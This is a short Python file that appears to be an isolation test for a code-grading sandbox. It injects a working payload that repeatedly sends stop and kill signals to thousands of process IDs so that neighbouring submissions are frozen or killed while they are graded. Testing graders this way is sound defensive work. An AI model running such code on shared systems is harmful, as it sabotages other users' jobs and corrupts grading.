"""Signals every process of the machine again and again while others are graded.

Success: a neighbor's process is stopped or killed, so that it loses points, or the class stops.
"""

ALONE = True


def attack(submission):
    submission.first(
        """
        import os, signal, time

        own = {os.getpid(), os.getppid(), 0, 1}
        for _ in range(40):
            for process in range(2, 3000):
                for number in (signal.SIGSTOP, signal.SIGKILL):
                    if process not in own:
                        try:
                            os.kill(process, number)
                        except OSError:
                            break
            time.sleep(0.3)
    """
    )
